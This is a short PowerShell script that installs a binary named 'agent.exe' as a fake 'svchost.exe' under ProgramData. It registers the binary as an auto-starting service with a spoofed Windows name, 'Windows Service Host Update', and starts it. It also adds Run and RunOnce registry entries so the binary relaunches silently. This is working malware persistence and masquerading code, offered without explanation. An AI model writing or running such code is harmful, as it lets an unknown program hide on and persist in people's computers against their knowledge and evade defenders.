$bin = "$env:ProgramData\WinSvcHost\svchost.exe"
Copy-Item -Path "$PSScriptRoot\agent.exe" -Destination $bin -Force

New-Service -Name 'WinSvcHostUpd' -BinaryPathName $bin -DisplayName 'Windows Service Host Update' -StartupType Automatic | Out-Null
Start-Service -Name 'WinSvcHostUpd'

Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'SvcHostUpd' -Value "`"$bin`" -silent"
reg.exe add "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce" /v Cleanup /t REG_SZ /d "$bin -once" /f
